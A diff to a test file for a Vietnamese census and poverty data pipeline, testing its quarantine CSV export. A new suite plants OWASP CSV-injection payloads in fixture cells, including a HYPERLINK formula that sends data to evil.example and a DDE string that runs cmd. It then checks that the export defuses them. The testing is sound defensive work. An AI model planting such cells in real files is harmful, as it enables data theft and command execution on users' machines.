@@ -56,8 +56,10 @@ describe('pnpm pipeline --skip-reports on the fixtures', () => {
   });
 
   it('exports the quarantine with the header of OUTPUTS.md, one line per quarantined row or value', async () => {
-    const lines = readFileSync(join(out, 'exports/quarantine.csv'), 'utf8').trim().split('\n');
-    expect(lines[0]).toBe('source,table,file,row,column,value,reason,action');
+    const text = readFileSync(join(out, 'exports/quarantine.csv'), 'utf8');
+    expect(text.startsWith('\uFEFF'), 'UTF-8 BOM, so Excel reads the Vietnamese as UTF-8').toBe(true);
+    const lines = text.slice(1).trim().split('\n');
+    expect(lines[0]).toBe('source,table,file,row,column,value,reason,code,action');
     const db = await Db.open(join(out, 'warehouse.duckdb'));
     try {
       const n = await db.one<{ n: number }>('SELECT count(*) AS n FROM ingest.quarantine');
@@ -91,6 +93,55 @@ describe('pnpm pipeline --skip-reports on the fixtures', () => {
     const quarantine = readFileSync(join(out, 'exports/quarantine.csv'), 'utf8');
     expect(quarantine).not.toContain('12345,');
     expect(quarantine).toContain('12*45');
+  });
+
+  it('gives each quarantine reason in Vietnamese with its code beside it', async () => {
+    const db = await Db.open();
+    try {
+      const path = join(out, 'exports/quarantine.csv').replaceAll("'", "''");
+      const rows = await db.all<{ file: string; row: number; column: string; reason: string; code: string }>(
+        `SELECT file, "row", "column", reason, code FROM read_csv('${path}', all_varchar = true) ORDER BY file, "row"`);
+      const at = (file: string, row: number) => rows.find((r) => r.file === file && Number(r.row) === row);
+      // Worded by hand from SOURCES.md §3 (the reference date of the 2024 census is 1 Oct 2024).
+      expect(at('census/2024/ho_xa_bao_ha.xlsx', 9)).toMatchObject({ column: 'ma_xa', code: 'commune_code_unknown', reason: 'Mã xã không có trong danh mục tại ngày 01/10/2024' });
+      expect(at('poverty/2024/ho_ngheo_xa_bao_ha.csv', 11)).toMatchObject({ code: 'number_below', reason: 'Giá trị nhỏ hơn 1' });
+      expect(at('poverty/2024/ho_ngheo_xa_bao_ha.csv', 12)).toMatchObject({ code: 'duplicate_key', reason: 'Trùng ma_ho: đã nạp từ tệp poverty/2024/ho_ngheo_xa_bao_ha.csv, dòng 5' });
+      expect(rows.length).toBeGreaterThan(20);
+      for (const r of rows) {
+        expect(r.code, `${r.file} ${r.row}`).toMatch(/^[a-z_]+$/);
+        expect(r.reason, `${r.file} ${r.row}`).not.toBe(r.code);
+        expect(r.reason, `${r.file} ${r.row}`).not.toMatch(/\b(is|not|the|of|missing|duplicate|unknown|below|above|after)\b/);
+      }
+    } finally {
+      db.close();
+    }
+  });
+});
+
+describe('hostile cells in the sources', () => {
+  // OWASP's CSV-injection payloads, each in a column whose value the quarantine shows.
+  const payloads = { ma_xa: '-2+3', thu_nhap_binh_quan: '=HYPERLINK("http://evil.example/?"&A1,"click")', dien_luoi: `@SUM(1+1)*cmd|' /C calc'!A0` };
+  const hostile = join(work, 'hostile');
+  const out = join(work, 'hostile-out');
+  beforeAll(async () => {
+    cpSync(join(repo, 'packages/connectors/census/fixtures/census/2025'), join(hostile, 'census/2025'), { recursive: true });
+    const csv = (cells: string[]) => cells.map((c) => `"${c.replaceAll('"', '""')}"`).join(',');
+    writeFileSync(join(hostile, 'census/2025/ho_xa_phuc_khanh.csv'), [
+      'ma_ho,ma_xa,ten_xa,thon,thu_nhap_binh_quan,dien_luoi,nuoc_hop_ve_sinh,vung_nguy_co,da_bo_tri',
+      csv(['P001', payloads.ma_xa, '', 'Thôn 1', '1000000', '1', '1', '0', '0']),
+      csv(['P002', '02998', '', 'Thôn 1', payloads.thu_nhap_binh_quan, payloads.dien_luoi, '1', '0', '0']),
+    ].join('\n'));
+    await runPipeline(config(out, hostile), quiet);
+  }, 120_000);
+
+  it('quarantines them with a leading quote, so no spreadsheet runs them, and keeps the text readable', () => {
+    const text = readFileSync(join(out, 'exports/quarantine.csv'), 'utf8');
+    const line = (column: string) => text.split('\n').find((l) => l.includes('ho_xa_phuc_khanh.csv') && l.includes(`,${column},`)) ?? '';
+    expect(line('ma_xa')).toContain(`,'-2+3,Mã xã không có trong danh mục`);
+    expect(line('thu_nhap_binh_quan')).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",Không phải là số,not_a_number,value_blanked`);
+    expect(line('dien_luoi')).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0,"Không phải giá trị có/không`);
+    // No cell of any line starts a formula.
+    for (const l of text.slice(1).split('\n')) for (const cell of l.split(',')) expect(cell, l).not.toMatch(/^"?[=+@\t\r-]/);
   });
 });
 
